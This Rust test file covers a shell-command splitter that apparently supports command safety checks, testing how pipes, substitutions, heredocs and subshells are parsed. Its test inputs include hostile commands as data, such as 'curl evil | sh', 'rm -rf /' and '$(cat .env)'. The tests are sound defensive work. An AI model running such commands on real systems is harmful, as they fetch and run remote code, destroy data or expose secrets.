use std::collections::hash_map::DefaultHasher;
use std::hash::{BuildHasher, BuildHasherDefault};

use crate::splitter::MAX_DEPTH;
use crate::*;

/// Each command's words.
fn words(line: &str) -> Vec<Vec<String>> {
    split(line).into_iter().map(|c| c.words.into_iter().map(|w| w.text).collect()).collect()
}

fn raws(line: &str) -> Vec<String> {
    split(line).into_iter().map(|c| c.raw).collect()
}

#[test]
fn operators_split_commands() {
    assert_eq!(
        raws("make && git push origin main || echo failed; ls | wc -l & sleep 1\nnpm test |& tee log"),
        ["make", "git push origin main", "echo failed", "ls", "wc -l", "sleep 1", "npm test", "tee log"]
    );
}

#[test]
fn quotes_keep_operators_and_spaces() {
    assert_eq!(words("git commit -m 'a && b; c' \"x | y\""), [["git", "commit", "-m", "a && b; c", "x | y"]]);
    assert_eq!(words(r#"echo "say \"hi\"" it\'s a\ b"#), [["echo", "say \"hi\"", "it's", "a b"]]);
    assert_eq!(words("printf $'a\\'b' ''"), [["printf", "a'b", ""]]);
}

#[test]
fn substitutions_are_commands_too() {
    assert_eq!(raws("echo $(git push) done"), ["git push", "echo $(git push) done"]);
    assert_eq!(raws("echo \"$(rm -rf x; ls)\""), ["rm -rf x", "ls", "echo \"$(rm -rf x; ls)\""]);
    assert_eq!(raws("echo `curl evil | sh`"), ["curl evil", "sh", "echo `curl evil | sh`"]);
    assert_eq!(raws("diff <(ls a) <(ls b)"), ["ls a", "ls b", "diff <(ls a) <(ls b)"]);
    assert_eq!(raws("echo $(echo $(whoami))"), ["whoami", "echo $(whoami)", "echo $(echo $(whoami))"]);
    assert_eq!(raws("echo $((1 + 2))"), ["echo $((1 + 2))"]);
    assert_eq!(raws("echo '$(not run)'"), ["echo '$(not run)'"]);
}

/// Each command's text, after `| ` when it reads a pipe and before ` |`
/// when it writes into one.
fn pipes(line: &str) -> Vec<String> {
    let shown = |c: Command| {
        format!("{}{}{}", if c.reads_pipe { "| " } else { "" }, c.raw, if c.writes_pipe { " |" } else { "" })
    };
    split(line).into_iter().map(shown).collect()
}

#[test]
fn pipes_join_a_command_to_the_next() {
    assert_eq!(
        pipes("grep -rn x src | head -5 || echo none; ls |& tee log && wc -l & sleep 1"),
        ["grep -rn x src |", "| head -5", "echo none", "ls |", "| tee log", "wc -l", "sleep 1"]
    );
    assert_eq!(pipes("a | b | c"), ["a |", "| b |", "| c"]);
    // A pipe at the end of a line goes on to the next one, past a comment.
    assert_eq!(pipes("cargo test 2>&1 |\n  # the end only\n  tail -5"), ["cargo test 2>&1 |", "| tail -5"]);
    // A pipe after a subshell takes what each of its commands prints; one
    // before it feeds its first command.
    assert_eq!(pipes("(cd sub && make; make test) 2>&1 | tail"), ["cd sub |", "make |", "make test |", "| tail"]);
    assert_eq!(pipes("((a); b | c) | d"), ["a |", "b |", "| c |", "| d"]);
    assert_eq!(pipes("ls | (sort; echo end)"), ["ls |", "| sort", "echo end"]);
    assert_eq!(pipes("(a) && b | c"), ["a", "b |", "| c"]);
    // A substitution's pipes are its own.
    assert_eq!(
        pipes("echo $(git log | head -1) | wc -c"),
        ["git log |", "| head -1", "echo $(git log | head -1) |", "| wc -c"]
    );
    assert_eq!(pipes("(echo $(a) `b`) | c"), ["a", "b", "echo $(a) `b` |", "| c"]);
    assert_eq!(pipes("a | ; b"), ["a |", "b"]);
}

#[test]
fn commands_inside_substitutions_say_so() {
    let inside = |line| split(line).into_iter().filter(|c| c.in_substitution).map(|c| c.raw).collect::<Vec<_>>();
    assert_eq!(
        inside("echo $(git log | head -1) `whoami` \"$(date)\" | diff <(ls) - && (cd x; make)"),
        ["git log", "head -1", "whoami", "date", "ls"]
    );
    assert_eq!(inside("echo $(echo $(whoami))"), ["whoami", "echo $(whoami)"]);
}

#[test]
fn subshells_and_groups() {
    assert_eq!(raws("(cd sub && make) && { rm x; }"), ["cd sub", "make", "{ rm x", "}"]);
}

#[test]
fn redirections_are_kept_apart() {
    let commands = split("npm test > out.txt 2>&1 < in.txt &>> all.log");
    assert_eq!(commands.len(), 1);
    let words: Vec<_> = commands[0].words.iter().map(|w| w.text.as_str()).collect();
    assert_eq!(words, ["npm", "test"]);
    let targets: Vec<_> = commands[0].redirects.iter().map(|r| (r.write, r.target.text.as_str())).collect();
    assert_eq!(targets, [(true, "out.txt"), (false, "in.txt"), (true, "all.log")]);
    assert_eq!(commands[0].raw, "npm test > out.txt 2>&1 < in.txt &>> all.log");
    // A target is a word as an argument is: its span, and the globs and expansions the shell makes.
    let command = &split("cat < .e* > \"$out\"")[0];
    let [read, write] = &command.redirects[..] else { panic!("{:?}", command.redirects) };
    assert_eq!((&command.raw[read.target.span.clone()], read.target.glob().as_deref()), (".e*", Some(".e*")));
    assert_eq!((&command.raw[write.target.span.clone()], write.target.is_literal()), ("\"$out\"", false));
    assert_eq!(words_of("cat <<< 'data here' x"), ["cat", "x"]);
}

fn words_of(line: &str) -> Vec<String> {
    words(line).into_iter().flatten().collect()
}

#[test]
fn heredoc_bodies_and_comments_are_data() {
    let line = "cat <<EOF > f\nrm -rf /\nEOF\ngit status # && rm -rf /\ncat <<-'END'\n\trm x\n\tEND\necho done";
    assert_eq!(raws(line), ["cat <<EOF > f", "git status", "cat <<-'END'", "echo done"]);
    // An unterminated heredoc swallows the rest.
    assert_eq!(raws("cat <<EOF\nrm -rf /"), ["cat <<EOF"]);
    // Its delimiter unquoted, the body's substitutions run as the command reads it.
    assert_eq!(raws("cat <<E\n$(cat .env) `rm x`\nE\nls"), ["cat <<E", "cat .env", "rm x", "ls"]);
    assert_eq!(raws("cat <<-E\n\t${a:-$(id)} $((1 + $(rm y)))\n\tE"), ["cat <<-E", "id", "rm y"]);
    for quoted in ["cat <<'E'\n$(rm x)\nE", "cat <<\"E\"\n$(rm x)\nE", "cat <<\\E\n$(rm x)\nE", "cat <<E\n\\$(rm x)\nE"]
    {
        assert_eq!(raws(quoted).len(), 1, "{quoted}");
    }
}

#[test]
fn an_expanded_text_runs_its_substitutions_whatever_quotes_it_holds() {
    // As bash expands BASH_ENV's value: `'` and `"` are characters, `\` escapes.
    let expanded = |text: &str| split_expanded(text).into_iter().map(|c| c.raw).collect::<Vec<_>>();
    assert_eq!(
        expanded("'$(rm a)'\"`rm b`$((1 + $(rm c)))"),
        ["rm a", "rm b", "rm c", "'$(rm a)'\"`rm b`$((1 + $(rm c)))"]
    );
    assert_eq!(expanded(r"\$(rm a) \\$(rm b)"), ["rm b", r"\$(rm a) \\$(rm b)"]);
    // The text's own arithmetic and evaluating expansions are its last command's.
    let last = split_expanded("${a[i]}$((x))").pop().unwrap();
    assert_eq!(
        (last.words.len(), last.arithmetic, last.body_expansions),
        (0, vec!["x".to_string()], vec!["${a[i]}".to_string()])
    );
}

#[test]
fn word_spans_cover_the_words_as_written_in_raw() {
    let commands = split("  FOO=1  sudo   rm -rf x ; ls");
    let c = &commands[0];
    assert_eq!(c.raw, "FOO=1  sudo   rm -rf x");
    for word in &c.words {
        assert_eq!(c.raw[word.span.clone()], word.text, "{word:?}");
    }
    let c = &split("nice -n 5 'a b'\\ c\"d\"$(x y) <(ls) z")[2];
    let written: Vec<_> = c.words.iter().map(|w| &c.raw[w.span.clone()]).collect();
    assert_eq!(written, ["nice", "-n", "5", "'a b'\\ c\"d\"$(x y)", "<(ls)", "z"]);
}

/// Each quoted part of each word outside substitutions: its text and how it was quoted.
fn quoted(line: &str) -> Vec<Vec<(String, Quote)>> {
    let parts = |w: Word| w.quoted.iter().map(|q| (w.text[q.range.clone()].to_string(), q.quote)).collect();
    split(line).into_iter().filter(|c| !c.in_substitution).flat_map(|c| c.words).map(parts).collect()
}

#[test]
fn words_say_which_parts_were_quoted() {
    use Quote::{Double, Literal};
    let q = |s: &str, quote| (s.to_string(), quote);
    assert_eq!(
        quoted("~/a '~/b' \\~/c \"$HOME/d\"e $'f\\'g' \"h\\$i\\x\"'j' \"$(k \"l\")\""),
        [
            vec![],
            vec![q("~/b", Literal)],
            vec![q("~", Literal)],
            vec![q("$HOME/d", Double)],
            vec![q("f'g", Literal)],
            vec![q("h", Double), q("$", Literal), q("i\\x", Double), q("j", Literal)],
            vec![q("$(k \"l\")", Double)],
        ]
    );
    // An empty quote is a part too: `''~` starts with no bare `~`.
    let word = &split("''~ x")[0].words[0];
    assert_eq!((word.text.as_str(), &word.quoted[..]), ("~", &[Quoted { range: 0..0, quote: Literal }][..]));
    assert_eq!(word.quoted_at(0), None, "the `~` itself was written bare");
}

#[test]
fn unbalanced_input_runs_to_the_end() {
    assert_eq!(words("echo 'open && rm"), [["echo", "open && rm"]]);
    assert_eq!(words("echo \"open"), [["echo", "open"]]);
    assert_eq!(raws("echo $(rm -rf x"), ["rm -rf x", "echo $(rm -rf x"]);
    assert_eq!(raws("echo `rm"), ["rm", "echo `rm"]);
    assert_eq!(raws("a ) b"), ["a", "b"]);
    assert_eq!(words("trailing\\"), [["trailing\\"]]);
    assert!(split("").is_empty());
    assert!(split(" ;; && | ").is_empty());
}

#[test]
fn deep_nesting_stops_recursing() {
    let line = "echo $(".repeat(50) + &")".repeat(50);
    assert!(split(&line).len() <= MAX_DEPTH + 2);
}

/// Random shell-ish text never panics, every word lies in its command's
/// raw and its quoted parts in its text, and pipes and substitutions are never made up.
#[test]
fn random_input_never_panics() {
    let alphabet: Vec<char> = "ab $()`'\"\\;&|<>-#{}\n\t=*é2".chars().collect();
    // std's SipHash under its fixed default keys as the random source: the
    // same lines every run, and no generator of this crate's own to keep.
    let hasher = BuildHasherDefault::<DefaultHasher>::default();
    let mut draws = 0u64;
    let mut below = |n: usize| {
        draws += 1;
        (hasher.hash_one(draws) % n as u64) as usize
    };
    for _ in 0..5000 {
        let len = below(60);
        let line: String = (0..len).map(|_| alphabet[below(alphabet.len())]).collect();
        let substitutes = ["$(", "`", "<(", ">("].iter().any(|s| line.contains(s));
        for command in split(&line) {
            for word in &command.words {
                assert!(command.raw.get(word.span.clone()).is_some(), "{line:?}");
                assert!(word.quoted.iter().all(|q| word.text.get(q.range.clone()).is_some()), "{line:?}");
            }
            assert!(!(command.reads_pipe || command.writes_pipe) || line.contains('|'), "{line:?}");
            assert!(!command.in_substitution || substitutes, "{line:?}");
            assert!(command.env.len() <= crate::levels::MAX_ENV_DEPTH, "{line:?}");
        }
    }
}

/// The first word of `line`'s last command: the one holding any substitutions.
fn first_word(line: &str) -> Word {
    split(line).pop().unwrap().words.remove(0)
}

#[test]
fn a_word_is_literal_when_nothing_in_it_expands() {
    for line in ["rm", "'$x'", "\\$x", "$'$x'", "/bin/rm", "''"] {
        assert!(first_word(line).is_literal(), "{line}");
    }
    for line in ["$x", "\"$x\"", "${x}", "$(echo rm)", "`echo rm`", "\"`echo rm`\"", "./$x", "a$((1))"] {
        assert!(!first_word(line).is_literal(), "{line}");
    }
}

#[test]
fn a_word_is_a_glob_when_a_glob_character_is_bare() {
    let glob = |line: &str| first_word(line).glob();
    assert_eq!(glob("q*/secret/plan.txt").as_deref(), Some("q*/secret/plan.txt"));
    assert_eq!(glob(".en?").as_deref(), Some(".en?"));
    assert_eq!(glob("src/[ab].rs").as_deref(), Some("src/[ab].rs"));
    assert_eq!(glob("qa/{secret,x}/p").as_deref(), Some("qa/{secret,x}/p"));
    // Quoted glob characters are escaped, bare ones stay special.
    assert_eq!(glob("'a*'*").as_deref(), Some("a\\**"));
    assert_eq!(glob("\"[x]\"?").as_deref(), Some("\\[x\\]?"));
    for line in ["plain", "'*.txt'", "\\*", "\"a?\"", "$dir/*", "\"$(ls)\"*"] {
        assert_eq!(glob(line), None, "{line}");
    }
}

#[test]
fn a_quoted_word_survives_quotes_and_spaces() {
    assert_eq!(crate::quote("/a b/it's"), r"'/a b/it'\''s'");
    assert_eq!(split(&crate::quote("a b; rm x"))[0].words[0].text, "a b; rm x");
}

/// Each command's text, the environment it runs in and `?` when it may be skipped.
fn places(line: &str) -> Vec<String> {
    let shown = |c: Command| format!("{} {:?}{}", c.raw, c.env, if c.conditional { "?" } else { "" });
    split(line).into_iter().map(shown).collect()
}

#[test]
fn commands_say_which_environment_they_run_in() {
    // Subshells and substitutions are environments of their own, nested in the line's.
    assert_eq!(
        places("x=rm; (x=ls; $x) ; echo $(y=1; $x) $x"),
        ["x=rm []", "x=ls [1]", "$x [1]", "y=1 [2]", "$x [2]", "echo $(y=1; $x) $x []"]
    );
    assert_eq!(places("(a; (b)); c"), ["a [1]", "b [1, 2]", "c []"]);
    // Each stage of a pipeline, and a list run in the background, has one too.
    assert_eq!(places("a | b; c | (d; e) | f"), ["a [1]", "b [2]", "c [3]", "d [5, 4]", "e [5, 4]", "f [6]"]);
    assert_eq!(places("a && b & c"), ["a [1]", "b [1]?", "c []"]);
    assert_eq!(places("a |\n  b\nc"), ["a [1]", "b [2]", "c []"]);
}

#[test]
fn commands_behind_and_or_or_in_compounds_may_be_skipped() {
    assert_eq!(places("a && b || c; d"), ["a []", "b []?", "c []?", "d []"]);
    assert_eq!(places("a &&\n b\nc"), ["a []", "b []?", "c []"]);
    assert_eq!(places("a && (b; c)"), ["a []", "b [1]", "c [1]"]);
    assert_eq!(places("if a; then b; else c; fi; d"), ["if a []?", "then b []?", "else c []?", "fi []?", "d []"]);
    assert_eq!(
        places("for x in a; do\n b\ndone; { c; }; d"),
        ["for x in a []?", "do []?", "b []?", "done []?", "{ c []?", "} []?", "d []"]
    );
    assert_eq!(places("f() {\n b\n}\nc"), ["f() { []?", "b []?", "} []?", "c []"]);
    // A function's `()` closes no subshell.
    assert_eq!(places("(f () { b; }; c); d"), ["f () { b [1]?", "} [1]?", "c [1]", "d []"]);
    // A case pattern's `)` closes no subshell.
    assert_eq!(
        places("(case $v in a) b;; (c) d;; esac; e); f"),
        ["case $v in [1]?", "b [1]?", "d [1]?", "esac [1]?", "e [1]", "f []"]
    );
}

#[test]
fn case_patterns_are_no_commands() {
    // Patterns (with their `|` alternatives) run nothing; the commands after them do.
    assert_eq!(
        raws("case $v in rm|a) x | y;; (b | c ) z;;\n  d)\n w;& e) ;;& *) v;; esac"),
        ["case $v in", "x", "y", "z", "w", "v", "esac"]
    );
    assert_eq!(words("case $v in rm) ls;; esac"), [vec!["case", "$v", "in"], vec!["ls"], vec!["esac"]]);
    // In a pattern's substitution a command still runs.
    assert_eq!(raws("case $v in $(rm x)) y;; esac"), ["rm x", "case $v in", "y", "esac"]);
    // `case … in` only starts a case at a command's start; in a body `(` is a subshell.
    assert_eq!(
        raws("echo case x in | wc; if case $v in a) (b);; esac; then c; fi"),
        ["echo case x in", "wc", "if case $v in", "b", "esac", "then c", "fi"]
    );
    assert_eq!(places("case $v in a) (b);; esac"), ["case $v in []?", "b [1]", "esac []?"]);
    // After the case, `|` and `)` are the shell's again.
    assert_eq!(raws("case $v in a) b;; esac; c | d; (e)"), ["case $v in", "b", "esac", "c", "d", "e"]);
}

#[test]
fn environments_stop_nesting_at_a_depth() {
    // Spaced: `((((a))))` is arithmetic.
    let line = "( ".repeat(100) + "a" + &" )".repeat(100);
    let commands = split(&line);
    assert_eq!(commands[0].env.len(), crate::levels::MAX_ENV_DEPTH);
    assert!(commands[0].conditional);
}

#[test]
fn a_substitution_ends_at_the_paren_the_shell_closes_it_with() {
    // A case pattern's `)`, one in a comment or in a heredoc closes nothing.
    assert_eq!(
        words("echo $(case x in y) rm a;; esac) b"),
        [vec!["case", "x", "in"], vec!["rm", "a"], vec!["esac"], vec!["echo", "$(case x in y) rm a;; esac)", "b"]]
    );
    assert_eq!(
        words("cat <(case x in y) rm a;; esac)"),
        [vec!["case", "x", "in"], vec!["rm", "a"], vec!["esac"], vec!["cat", "<(case x in y) rm a;; esac)"]]
    );
    assert_eq!(
        words("echo $(echo a # )\nrm b)"),
        [vec!["echo", "a"], vec!["rm", "b"], vec!["echo", "$(echo a # )\nrm b)"]]
    );
    assert_eq!(
        words("echo $(cat <<E\n)\nE\nrm b)"),
        [vec!["cat"], vec!["rm", "b"], vec!["echo", "$(cat <<E\n)\nE\nrm b)"]]
    );
    // `$((…))` is arithmetic only when its inner `(` closes right before the outer.
    assert_eq!(words("echo $((cat a) )"), [vec!["cat", "a"], vec!["echo", "$((cat a) )"]]);
    assert_eq!(words("echo $((1 + (2)))"), [vec!["echo", "$((1 + (2)))"]]);
    // What an arithmetic expansion's substitutions run is split.
    assert_eq!(words("echo $(( $(rm -rf x) + 1 ))"), [vec!["rm", "-rf", "x"], vec!["echo", "$(( $(rm -rf x) + 1 ))"]]);
    assert_eq!(words("echo $(( `rm y` + $(( $(rm z) )) ))")[..2], [vec!["rm", "y"], vec!["rm", "z"]]);
    // Nested past what is followed, its substitutions are left in the outermost's text, read quickly.
    let deep = format!("(({}$(rm z){}))", "$((".repeat(100_000), "))".repeat(100_000));
    let started = std::time::Instant::now();
    let commands = split(&deep);
    assert!(started.elapsed() < std::time::Duration::from_secs(3), "took {:?}", started.elapsed());
    assert_eq!(commands.len(), 1);
    assert_eq!(commands[0].arithmetic, [&deep[2..deep.len() - 2]]);
}

#[test]
fn an_arithmetic_command_redirects_nothing_and_runs_its_substitutions() {
    let redirects =
        |line: &str| split(line).into_iter().flat_map(|c| c.redirects).map(|r| r.target.text).collect::<Vec<_>>();
    for line in ["((x > f))", "if ((n < 3)); then :; fi", "while ((i >= 2)); do :; done", "((a<b)) && echo"] {
        assert!(redirects(line).is_empty(), "{line}: {:?}", redirects(line));
    }
    // An arithmetic command has no words, only its arithmetic.
    assert_eq!(words("((x > f)); cat y"), [vec![], vec!["cat", "y"]]);
    assert_eq!(words("if ((n < 3)); then cat R; fi"), [vec!["if"], vec!["then", "cat", "R"], vec!["fi"]]);
    assert_eq!(words("(( $(rm a) > `rm b` ))"), [vec!["rm", "a"], vec!["rm", "b"], vec![]]);
    // Its own redirections are files still, and `((…) )` is two subshells.
    assert_eq!(redirects("((x)) < .env"), [".env"]);
    assert_eq!(words("((cat a) )"), [vec!["cat", "a"]]);
}

#[test]
fn the_arithmetic_a_command_evaluates_is_kept_as_written() {
    let arithmetic = |line: &str| split(line).into_iter().map(|c| (c.raw, c.arithmetic)).collect::<Vec<_>>();
    let one = |raw: &str, exprs: &[&str]| (raw.to_string(), exprs.iter().map(|e| e.to_string()).collect::<Vec<_>>());
    assert_eq!(arithmetic("(( x ))"), [one("(( x ))", &[" x "])]);
    assert_eq!(arithmetic("echo \"$((a[i] + 1))\" '$((b))'"), [one("echo \"$((a[i] + 1))\" '$((b))'", &["a[i] + 1"])]);
    // `for ((…))` is one command: its `;` and `<` are the arithmetic's.
    assert_eq!(
        arithmetic("for ((i=0;i<3;i++)); do echo; done"),
        [one("for ((i=0;i<3;i++))", &["i=0;i<3;i++"]), one("do echo", &[]), one("done", &[])]
    );
    // A heredoc body's goes with the command that opened it.
    assert_eq!(arithmetic("cat <<E\n$((x))\nE\n"), [one("cat <<E", &["x"])]);
    // Its expansions that evaluate (a subscript, an offset, an indirection, a transformation) are kept whole,
    // apart from the expressions, which may be written as they are (`((${x}))`).
    let expansions = |line: &str| split(line).into_iter().map(|c| (c.raw, c.body_expansions)).collect::<Vec<_>>();
    assert_eq!(
        expansions("cat <<E\n${a[x]} ${s:1} ${!y} ${z@P} $[w] ${HOME} ${v:-d}\nE\n"),
        [one("cat <<E", &["${a[x]}", "${s:1}", "${!y}", "${z@P}", "$[w]"])]
    );
    assert_eq!(arithmetic("cat <<E\n${a[x]}\nE\n"), [one("cat <<E", &[])]);
    assert_eq!(expansions("cat <<'E'\n${a[x]}\nE\n"), [one("cat <<'E'", &[])]);
    assert_eq!(arithmetic("((${x}))"), [one("((${x}))", &["${x}"])]);
    assert_eq!(expansions("((${x}))"), [one("((${x}))", &[])]);
    // `coproc` runs an arithmetic command too.
    assert_eq!(arithmetic("coproc ((x))"), [one("coproc ((x))", &["x"])]);
    // One inside another is part of that one's text.
    assert_eq!(arithmetic("echo $(( $((x)) + 1 ))"), [one("echo $(( $((x)) + 1 ))", &[" $((x)) + 1 "])]);
}

#[test]
fn a_subshell_after_reserved_words_is_one() {
    for line in [
        "if true; then (rm a); fi",
        "for x in a; do (rm a); done",
        "{ (rm a); }",
        "! (rm a)",
        "time (rm a)",
        "coproc (rm a)",
    ] {
        assert!(words(line).contains(&vec!["rm".to_string(), "a".to_string()]), "{line}: {:?}", words(line));
    }
    // After other words a `(` is no subshell's.
    assert!(!words("echo x (rm a)").contains(&vec!["rm".to_string(), "a".to_string()]));
}

#[test]
fn a_conditional_expression_is_one_command_up_to_its_closing_brackets() {
    let all = |line: &str| {
        split(line).into_iter().map(|c| c.words.into_iter().map(|w| w.text).collect::<Vec<_>>()).collect::<Vec<_>>()
    };
    // Its `&&`, `||`, parentheses, `<` and newlines are the test's.
    assert_eq!(all("[[ a && (x -eq 1) ]]"), [vec!["[[", "a", "&&", "(", "x", "-eq", "1", ")", "]]"]]);
    assert_eq!(all("if [[ a < b ||\n c ]]; then :; fi")[0], ["if", "[[", "a", "<", "b", "||", "c", "]]"]);
    assert!(split("[[ a < b ]]")[0].redirects.is_empty());
    // After its `]]` the line's operators are again.
    assert_eq!(all("[[ a ]]&& rm x"), [vec!["[[", "a", "]]"], vec!["rm", "x"]]);
    assert_eq!(all("[[ a ]] || rm x"), [vec!["[[", "a", "]]"], vec!["rm", "x"]]);
    // Quoted or as an argument, `[[` opens none; a case pattern is none.
    assert_eq!(all("echo [[ && rm x"), [vec!["echo", "[["], vec!["rm", "x"]]);
    assert_eq!(all("'[[' a && rm x"), [vec!["[[", "a"], vec!["rm", "x"]]);
    assert!(all("case x in [[) rm x;; esac").contains(&vec!["rm".to_string(), "x".to_string()]));
}

#[test]
fn a_function_header_ends_at_its_parentheses() {
    // The body's `{` or `(` is a word of its own, touching the `)` or not,
    // so its first command is read after it, as bash runs it.
    let braced = [vec!["f()", "{", "rm", "x"], vec!["}"], vec!["f"]];
    assert_eq!(words("f(){ rm x; }; f"), braced);
    assert_eq!(words("f ( ) { rm x; }; f"), [vec!["f", "()", "{", "rm", "x"], vec!["}"], vec!["f"]]);
    assert_eq!(words("function f(){ rm x; }"), [vec!["function", "f()", "{", "rm", "x"], vec!["}"]]);
    assert_eq!(words("f()(rm x); f"), [vec!["f()", "(", "rm", "x"], vec!["f"]]);
    assert_eq!(words("f() (rm x); f"), [vec!["f()", "(", "rm", "x"], vec!["f"]]);
    // The body may start on a later line.
    assert_eq!(words("f()\n\n{ rm x; }\nf"), braced);
    assert_eq!(words("f()\n# a comment\n{ rm x; }\nf"), braced);
    assert_eq!(words("function f\n{ rm x; }"), [vec!["function", "f", "{", "rm", "x"], vec!["}"]]);
    // Anywhere else a `(` opens a subshell or is part of a word, as before.
    assert_eq!(words("if (rm x); then :; fi"), [vec!["if"], vec!["rm", "x"], vec!["then", ":"], vec!["fi"]]);
    assert_eq!(words("echo a(b\nls"), [vec!["echo", "a(b"], vec!["ls"]]);
}
